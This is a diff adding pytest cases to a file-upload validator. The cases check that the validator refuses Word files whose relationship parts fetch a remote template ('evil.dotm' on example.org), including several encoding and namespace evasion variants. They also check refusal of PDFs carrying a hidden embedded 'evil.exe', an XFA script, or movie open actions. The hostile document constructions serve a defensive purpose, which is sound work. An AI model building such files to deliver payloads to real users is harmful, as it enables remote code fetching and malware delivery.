@@ -209,6 +209,40 @@ def test_a_word_file_that_hides_something_is_refused(content: bytes, found: str)
     assert refused.value.found == found
 
 
+_FETCHING = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type='
+    '"http://x/attachedTemplate" Target="https://example.org/evil.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+@pytest.mark.parametrize(
+    ("part", "content"),
+    [
+        ("settings.xml.rels", _FETCHING.replace('"External"', "'External'")),
+        ("settings.xml.rels", _FETCHING.replace('"External"', '"&#69;xternal"')),
+        ("settings.xml.rels", _FETCHING.replace("attached", "&#97;ttached")),
+        ("settings.xml.rels", _FETCHING.replace('Id="r"', 'Id="r>"')),
+        ("settings.xml.rels", f'<?xml version="1.0" encoding="UTF-16"?>{_FETCHING}'.encode("utf-16")),
+        (
+            "settings.xml.rels",
+            _FETCHING.replace("<R", "<p:R").replace("</R", "</p:R").replace("xmlns=", "xmlns:p="),
+        ),
+        ("settings.xml.RELS", _FETCHING),
+        ("webSettings.xml.rels", _FETCHING.replace("attachedTemplate", "frame")),
+    ],
+)
+def test_a_word_file_that_fetches_something_is_refused_however_it_says_so(part: str, content: str | bytes) -> None:
+    with pytest.raises(FileTypeRefused) as refused:
+        upload("diary.docx", docx(**{f"word/_rels/{part}": content}))
+    assert refused.value.found == "a Word file that fetches something from elsewhere"
+
+
+@pytest.mark.parametrize("content", ["<Relationships>", "", "<!DOCTYPE a [<!ENTITY e 'x'>]><a>&e;</a>"])
+def test_a_word_file_whose_parts_can_not_be_told_is_refused(content: str) -> None:
+    with pytest.raises(FileDamaged):
+        upload("diary.docx", docx(**{"word/_rels/settings.xml.rels": content}))
+
+
 def test_a_word_file_with_a_link_to_a_web_page_is_taken() -> None:
     link = '<Relationships><Relationship Type="http://x/hyperlink" Target="https://a.org" TargetMode="External"/>'
     upload("diary.docx", docx(**{"word/_rels/document.xml.rels": link + "</Relationships>"}))
@@ -300,6 +334,49 @@ def test_a_pdf_with_a_file_inside_is_refused() -> None:
     with pytest.raises(FileTypeRefused) as refused:
         upload("notes.pdf", out.getvalue())
     assert refused.value.found == "a PDF with another file inside"
+
+
+def with_part(put: Callable[[pikepdf.Pdf], None]) -> bytes:
+    """A PDF of one page, with what `put` puts into it."""
+    made = pikepdf.new()
+    made.add_blank_page()
+    put(made)
+    made.save(out := io.BytesIO())
+    return out.getvalue()
+
+
+def _hidden_file(made: pikepdf.Pdf) -> None:
+    """A file that does not say that it is one: its /Type may be left out (PDF 32000-1, table 45)."""
+    file = action(Type=pikepdf.Name.Filespec, F="evil.exe", EF=action(F=made.make_stream(b"MZ")))
+    names = action(Names=pikepdf.Array(["evil.exe", made.make_indirect(file)]))
+    made.Root.Names = action(EmbeddedFiles=names)
+
+
+def _form(made: pikepdf.Pdf, xml: bytes) -> None:
+    parts = pikepdf.Array(["template", made.make_stream(xml)])
+    made.Root.AcroForm = action(Fields=pikepdf.Array([]), XFA=parts)
+
+
+SCRIPTED = b"<event><script contentType='application/x-javascript'>app.alert(1)</script></event>"
+
+
+@pytest.mark.parametrize(
+    ("put", "found"),
+    [
+        (_hidden_file, "another file"),
+        (lambda made: _form(made, SCRIPTED), "a script"),
+        (lambda made: setattr(made.Root, "OpenAction", action(S=pikepdf.Name.Rendition)), "a film"),
+        (lambda made: setattr(made.Root, "OpenAction", action(S=pikepdf.Name.Movie)), "a film"),
+    ],
+)
+def test_a_pdf_that_hides_something_is_refused(put: Callable[[pikepdf.Pdf], None], found: str) -> None:
+    with pytest.raises(FileTypeRefused) as refused:
+        upload("notes.pdf", with_part(put))
+    assert refused.value.found == f"a PDF with {found} inside"
+
+
+def test_a_form_without_a_script_is_taken() -> None:
+    upload("form.pdf", with_part(lambda made: _form(made, b"<template><field name='a'/></template>")))
 
 
 def test_a_pdf_with_links_bookmarks_and_packed_objects_is_taken() -> None:
